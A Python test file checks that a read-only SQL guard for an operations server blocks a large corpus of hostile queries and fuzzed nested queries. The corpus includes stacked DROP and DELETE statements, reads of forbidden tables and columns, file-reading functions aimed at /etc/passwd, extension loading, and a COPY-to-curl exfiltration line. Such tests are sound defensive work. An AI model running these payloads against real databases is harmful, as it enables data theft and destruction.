"""Hostile SQL: whatever is sent, only what the asker may read is read, and nothing is ever written.

The canary stands in a table that the catalogue does not name and in a column that `staff` may not read.
"""

import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mcp_servers.operations.catalogue import load_catalogue
from mcp_servers.operations.guard import Access, guard
from mcp_servers.operations.reader import Limits, Statement
from mcp_servers.operations.sqlite import SqliteReader
from signalbox.errors import SignalboxError, UserFault
from signalbox.identity import Principal
from tests.mcp_servers.operations.conftest import CANARY, digest

CORPUS = [
    # stacked statements and comments
    "SELECT 1; DROP TABLE orders",
    "SELECT 1; DELETE FROM people; --",
    "SELECT 1;; UPDATE stock SET on_hand = 0",
    "SELECT * FROM orders LIMIT 1 /* */; INSERT INTO sites VALUES ('x','x','x','x')",
    "SELECT 1 -- \n; DROP TABLE people",
    "/*! DROP TABLE orders */ DELETE FROM orders",
    "-- harmless\nDROP TABLE orders",
    "SELECT 1\x00; DROP TABLE orders",
    "'; DROP TABLE orders; --",
    # writing
    "DELETE FROM orders",
    "UPDATE people SET salary_band = 'F9'",
    "INSERT INTO sites SELECT * FROM sites",
    "REPLACE INTO sites VALUES ('a', 'b', 'c', 'd')",
    "CREATE TABLE x AS SELECT * FROM people",
    "CREATE VIEW x AS SELECT * FROM payroll",
    "CREATE TEMP TABLE x (a)",
    "CREATE TRIGGER t AFTER INSERT ON sites BEGIN SELECT 1; END",
    "ALTER TABLE people RENAME TO p2",
    "DROP TABLE IF EXISTS orders",
    "TRUNCATE TABLE orders",
    "SELECT * INTO stolen FROM people",
    "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
    "WITH up AS (UPDATE stock SET on_hand = 0 RETURNING site) SELECT * FROM up",
    "WITH ins AS (INSERT INTO sites VALUES ('x','y','z','w') RETURNING *) SELECT * FROM ins",
    "WITH x AS (SELECT 1) DELETE FROM orders",
    "WITH x AS (SELECT 1) INSERT INTO sites SELECT 'a','b','c','d' FROM x",
    "MERGE INTO stock USING orders ON 1=1 WHEN MATCHED THEN DELETE",
    "VACUUM INTO '/tmp/stolen.db'",
    "REINDEX",
    "ANALYZE",
    # the engine's own statements
    "ATTACH DATABASE '/tmp/other.db' AS other",
    "ATTACH ':memory:' AS m",
    "DETACH DATABASE main",
    "PRAGMA writable_schema = 1",
    "PRAGMA table_info(payroll)",
    "PRAGMA query_only = OFF",
    "BEGIN; SELECT 1",
    "COMMIT",
    "ROLLBACK",
    "SAVEPOINT a",
    "EXPLAIN SELECT * FROM payroll",
    "EXPLAIN QUERY PLAN SELECT 1",
    "SET default_transaction_read_only = off",
    "COPY people TO PROGRAM 'curl http://x.example'",
    "DO $$ BEGIN DELETE FROM orders; END $$",
    "CALL do_something()",
    "GRANT ALL ON people TO public",
    "LISTEN canary",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE sites",
    # functions
    "SELECT load_extension('/tmp/evil.so')",
    "SELECT readfile('/etc/passwd')",
    "SELECT writefile('/tmp/x', 'y')",
    "SELECT edit('x', 'vi')",
    "SELECT fts3_tokenizer('simple')",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_sleep(10)",
    "SELECT lo_import('/etc/passwd')",
    "SELECT dblink('host=x', 'SELECT 1')",
    "SELECT current_setting('data_directory')",
    "SELECT query_to_xml('SELECT * FROM payroll', true, false, '')",
    "SELECT sqlite_version(), sqlite_source_id()",
    "SELECT zeroblob(1000000000)",
    "SELECT hex(randomblob(900000000))",
    "SELECT printf('%1000000000d', 1)",
    "SELECT replace(hex(zeroblob(500000)), '0', 'aaaaaaaaaaaaaaaaaaaa')",
    "SELECT sys_exec('id')",
    # forbidden tables
    "SELECT * FROM payroll",
    "SELECT note FROM PayRoll",
    'SELECT note FROM "payroll"',
    "SELECT note FROM [payroll]",
    "SELECT note FROM `payroll`",
    "SELECT note FROM main.payroll",
    "SELECT note FROM main.'payroll'",
    "SELECT note FROM 'payroll'",
    "SELECT site FROM sites UNION ALL SELECT note FROM payroll",
    "SELECT site FROM sites EXCEPT SELECT note FROM payroll",
    "SELECT (SELECT note FROM payroll LIMIT 1)",
    "SELECT site FROM sites WHERE EXISTS (SELECT 1 FROM payroll WHERE note LIKE 'CANARY%')",
    "SELECT site FROM sites ORDER BY (SELECT note FROM payroll)",
    "SELECT site FROM sites GROUP BY site HAVING (SELECT note FROM payroll) IS NOT NULL",
    "SELECT site FROM sites LIMIT (SELECT length(note) FROM payroll)",
    "SELECT s.site, p.note FROM sites s CROSS JOIN payroll p",
    "SELECT * FROM sites NATURAL JOIN payroll",
    "SELECT * FROM (SELECT * FROM (SELECT * FROM payroll))",
    "WITH sites AS (SELECT * FROM payroll) SELECT * FROM sites",
    "WITH payroll AS (SELECT * FROM payroll) SELECT * FROM payroll",
    "SELECT * FROM (WITH payroll AS (SELECT 1 AS note) SELECT note FROM payroll) AS a, payroll",
    "WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS note) SELECT * FROM a JOIN payroll ON 1=1",
    "WITH RECURSIVE r(n) AS (SELECT note FROM payroll UNION ALL SELECT n FROM r) SELECT n FROM r LIMIT 1",
    "SELECT payroll.note FROM sites AS payroll, payroll",
    "TABLE payroll",
    "FROM payroll SELECT note",
    "VALUES ((SELECT note FROM payroll))",
    "SELECT * FROM sites JOIN LATERAL (SELECT note FROM payroll) p ON true",
    "SELECT CASE WHEN (SELECT note FROM payroll) LIKE 'C%' THEN site ELSE country END FROM sites",
    # the catalogue of the database
    "SELECT sql FROM sqlite_master",
    "SELECT name FROM sqlite_schema",
    "SELECT * FROM sqlite_temp_master",
    "SELECT * FROM sqlite_sequence",
    "SELECT * FROM pragma_table_info('payroll')",
    "SELECT * FROM pragma_database_list",
    "SELECT table_name FROM information_schema.tables",
    "SELECT * FROM pg_catalog.pg_shadow",
    "SELECT * FROM pg_user",
    "SELECT * FROM dbstat",
    "SELECT * FROM json_each('[1]')",
    "SELECT * FROM generate_series(1, 10)",
    # forbidden columns
    "SELECT salary_band FROM people",
    'SELECT "salary_band" FROM people',
    "SELECT p.salary_band FROM people p",
    "SELECT * FROM people WHERE salary_band = 'F2'",
    "SELECT name FROM people ORDER BY salary_band DESC",
    "SELECT COUNT(*) FROM people GROUP BY salary_band",
    "SELECT MAX(salary_band) FROM people",
    "SELECT name, (SELECT x.salary_band FROM people x WHERE x.name = people.name) FROM people",
    "SELECT unit_cost_eur FROM products",
    "SELECT * FROM people UNION SELECT person_id, salary_band, 1, 1, 1, 1, 1, 1, 1 FROM people",
    "SELECT name FROM people JOIN (SELECT salary_band AS name FROM people) USING (name)",
    "WITH p AS (SELECT * FROM people) SELECT salary_band FROM p",
    "SELECT people.* , salary_band FROM people",
    "SELECT rowid, oid, _rowid_ FROM people",
    "SELECT a.salary_band FROM people AS a(salary_band)",
    "SELECT main.people.salary_band FROM people",
    # parameters and placeholders
    "SELECT :user",
    "SELECT ?",
    "SELECT $1",
    "SELECT @@version",
    "SELECT * FROM orders WHERE order_id = :signalbox_0",
    # locks, samples, odd syntax
    "SELECT * FROM orders FOR UPDATE",
    "SELECT * FROM orders TABLESAMPLE SYSTEM (1)",
    "SELECT * FROM orders INDEXED BY orders_by_status",
    "SELECT * FROM signalbox_cte_0",
    "WITH signalbox_cte_0 AS (SELECT note FROM payroll) SELECT * FROM signalbox_cte_0",
    "SELECT " + "(" * 500 + "1" + ")" * 500,
    "SELECT " + "1 + " * 3000 + "1",
    "",
    ";",
]
COSTLY = [
    "SELECT COUNT(*) FROM order_lines a, order_lines b, order_lines c",
    "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT COUNT(*) FROM c",
    "SELECT group_concat(a.order_id || b.order_id) FROM orders a, orders b",
    "SELECT a.order_id FROM orders a, orders b, orders c ORDER BY c.total_eur, b.total_eur",
]
LIMITS = Limits(timeout_s=0.3, max_rows=50, max_bytes=20_000, max_cell_chars=200)


def test_the_corpus_is_large():
    assert len(set(CORPUS)) >= 130


async def test_no_hostile_statement_writes_or_reads_what_is_forbidden(connect: Any, database: Path):
    ask = await connect(statement_timeout_s=1.0)
    staff = Principal(user="ada", groups=frozenset({"staff"}))
    before = digest(database)
    leaked, ran = [], []
    for sql in CORPUS:
        try:
            table = await ask.service.run_select(staff, sql, None)
        except SignalboxError as refused:
            assert refused.message and CANARY not in str(refused)
            continue
        ran.append(sql)
        if CANARY in table.model_dump_json():
            leaked.append(sql)
    assert leaked == []
    assert digest(database) == before
    assert sorted(p.name for p in database.parent.iterdir()) == [database.name]
    # What ran at all reads nothing, or only what is free to read.
    assert set(ran) <= {
        "SELECT * FROM orders INDEXED BY orders_by_status",
        "SELECT a.salary_band FROM people AS a(salary_band)",
    }


async def test_the_database_refuses_the_same_statements_without_the_guard(database: Path):
    """The second lock alone: read-only file, authoriser, limits."""
    reader = SqliteReader(f"sqlite:///{database}", max_parallel=1)
    columns = load_catalogue().tables_for(Principal(user="ada", groups=frozenset({"staff"})))
    reads = {table: frozenset(own) for table, own in columns.items()}
    before = digest(database)
    for sql in CORPUS:
        try:
            page = await reader.fetch(Statement(sql=sql, binds={}, reads=reads), LIMITS)
        except SignalboxError:
            continue
        except sqlite3.Warning:
            continue
        assert CANARY not in json.dumps(page.rows), sql
    await reader.close()
    assert digest(database) == before
    assert sorted(p.name for p in database.parent.iterdir()) == [database.name]


@pytest.mark.parametrize("sql", COSTLY)
async def test_a_costly_statement_is_stopped_at_its_deadline(connect: Any, sql: str):
    ask = await connect(statement_timeout_s=0.3)
    answer = await ask("run_select", {"sql": sql})
    assert "was stopped" in answer.error or "too much memory" in answer.error or "too big" in answer.error


def _wrap(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    name = st.sampled_from(["a", "sites", "people", "payroll", "x", "main"])
    return st.one_of(
        st.builds(lambda q, n: f"SELECT * FROM ({q}) AS {n}", inner, name),
        st.builds(lambda q, n: f"WITH {n} AS ({q}) SELECT * FROM {n}", inner, name),
        st.builds(lambda q, n, m: f"WITH {n} AS ({q}) SELECT * FROM {m}", inner, name, name),
        st.builds(lambda q, r: f"{q} UNION ALL {r}", inner, inner),
        st.builds(lambda q, n: f"SELECT site FROM sites AS {n} WHERE site IN ({q})", inner, name),
        st.builds(lambda q, n, m: f"SELECT ({q}) FROM {n}, {m}", inner, name, name),
        st.builds(lambda q, n: f"WITH RECURSIVE {n} AS ({q} UNION SELECT * FROM {n}) SELECT * FROM {n}", inner, name),
    )


QUERIES = st.recursive(
    st.sampled_from(
        [
            "SELECT site FROM sites",
            "SELECT note FROM payroll",
            "SELECT salary_band FROM people",
            "SELECT name FROM people",
            "SELECT * FROM people",
            "SELECT * FROM payroll",
            "SELECT 1 AS note",
        ]
    ),
    _wrap,
    max_leaves=5,
)
STAFF = load_catalogue().tables_for(Principal(user="ada", groups=frozenset({"staff"})))


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(QUERIES)
def test_no_nesting_or_renaming_reaches_a_forbidden_table_or_column(database: Path, sql: str):
    """Runs the guarded SQL on a connection that has no authoriser at all."""
    try:
        guarded = guard(sql, Access(columns=STAFF, filters={}), read="sqlite", write="sqlite")
    except UserFault:
        return
    connection = sqlite3.connect(f"file:{database}?mode=ro", uri=True)
    try:
        assert CANARY not in json.dumps(connection.execute(guarded.sql).fetchmany(2_000))
    except sqlite3.OperationalError:
        pass
    finally:
        connection.close()
